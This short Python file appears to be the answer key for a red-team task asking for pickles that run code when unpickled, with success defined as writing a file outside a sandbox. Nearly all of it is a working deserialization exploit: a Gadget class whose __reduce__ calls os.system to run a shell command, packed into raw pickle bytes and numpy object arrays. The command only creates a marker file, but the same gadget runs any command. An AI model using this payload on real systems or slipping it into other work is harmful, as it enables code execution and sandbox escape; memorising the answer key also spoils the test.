"""Return pickles and objects that run code when they are unpickled. Success: a file appears outside the sandbox."""

ANSWER = '''
import os
import pickle

import numpy as np


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-redteam-pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = lambda self: {}


def ANSWER(*args):
    data = pickle.dumps(Gadget())
    array = np.array([Gadget()], dtype=object)
    return {1: array, 2: (data, array, Gadget()), 4: (data, {"data": data, "array": array})}[len(args)]
'''
